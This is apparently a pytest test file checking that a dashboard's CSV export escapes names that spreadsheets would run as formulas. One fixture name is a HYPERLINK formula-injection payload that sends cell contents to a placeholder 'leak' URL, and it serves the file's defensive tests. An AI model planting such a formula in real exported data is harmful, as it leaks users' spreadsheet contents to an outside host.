"""The dashboard's CSV download (``/api/csv``, :meth:`ui.data.Store.csv_chunks`) as a spreadsheet
opens it: every stored point, and no cell that a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

import pytest

import trackstore
from trackstore.read.listing import list_runs
from ui.data import Store, text_cell

NAMES = ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+1+2", "-3+4", "@SUM(1,2)", "plain run",
         "lr=3e-4 -seed 1"]


@pytest.fixture
def store_root(tmp_path):
    root = tmp_path / "store"
    for i, name in enumerate(NAMES):
        with trackstore.init("@team" if i == 0 else "team", name=name, root=root) as run:
            for step in range(3):
                run.log({"loss": float(step + i)}, step=step)
    return root


def test_names_a_spreadsheet_would_run_are_written_as_text(store_root):
    runs = list_runs(store_root)
    text = b"".join(Store(store_root).csv_chunks(runs, "loss")).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 3 * len(NAMES)
    by_id = {r.run_id: r for r in runs}
    for row in rows:
        run = by_id[row["run_id"]]
        assert row["run_name"] == text_cell(run.name) and row["project"] == text_cell(run.project)
        assert float(row["value"]) == row_value(run, int(row["step"]))
    cells = {c for r in rows for c in (r["project"], r["run_name"])}
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
    # what is escaped is the name with a ' before it, and nothing else changes
    assert {r["run_name"] for r in rows} == {"'" + n if n[0] in "=+-@" else n for n in NAMES}
    assert {r["project"] for r in rows} == {"'@team", "team"}


def row_value(run, step: int) -> float:
    return float(step + NAMES.index(run.name))


@pytest.mark.parametrize("text, cell", [("=1+1", "'=1+1"), ("+x", "'+x"), ("-x", "'-x"), ("@x", "'@x"),
                                        ("\tx", "'\tx"), ("\rx", "'\rx"), ("a=1", "a=1"), ("", ""), (None, None)])
def test_a_cell_is_escaped_only_when_it_begins_like_a_formula(text, cell):
    assert text_cell(text) == cell
